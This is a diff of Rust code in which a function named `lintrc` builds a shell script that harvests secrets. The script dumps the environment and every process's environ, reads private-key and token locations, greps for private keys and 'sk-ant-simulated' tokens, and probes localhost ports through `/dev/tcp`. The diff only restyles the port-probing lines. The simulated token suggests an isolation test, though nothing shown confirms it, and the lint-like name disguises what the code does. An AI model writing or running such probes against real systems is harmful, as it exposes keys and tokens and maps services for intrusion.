@@ -80,10 +80,8 @@ const INSIDE: &str = "/workspace /home /etc/ssl/private /context /out /srv /run 
 
 /// Looks for the App's key, a token and the database, and tries all doors of the host.
 fn lintrc(places: &[String], ports: &[u16], roots: &str) -> String {
-    let doors: String = ports
-        .iter()
-        .map(|port| format!("(exec 3<>/dev/tcp/127.0.0.1/{port} && echo DOOR {port} IS OPEN) 2>/dev/null\n"))
-        .collect();
+    let door = |port| format!("(exec 3<>/dev/tcp/127.0.0.1/{port} && echo DOOR {port} IS OPEN) 2>/dev/null\n");
+    let doors = ports.iter().map(door).collect::<Vec<_>>().concat();
     format!(
         "env\ncat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'\ncat {0} 2>/dev/null && echo FOUND\nls -A {0} 2>/dev/null\n{doors}\
          grep -rlsI -e 'PRIVATE KEY' -e 'sk-ant-simulate[d]' {roots} 2>/dev/null | grep -v lintrc\n\
